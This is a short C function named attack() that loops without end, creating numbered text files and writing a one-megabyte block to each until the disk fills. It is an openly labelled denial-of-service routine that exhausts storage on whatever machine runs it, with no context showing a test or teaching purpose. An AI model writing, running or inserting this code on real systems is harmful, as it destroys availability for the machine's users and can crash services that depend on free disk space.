static void attack(void)
{
    static char block[1 << 20];
    for (int i = 0;; i++) {
        char name[20];
        FILE *file;
        sprintf(name, "%d.txt", i);
        file = fopen(name, "w");
        fwrite(block, 1, sizeof block, file);
        fclose(file);
    }
}
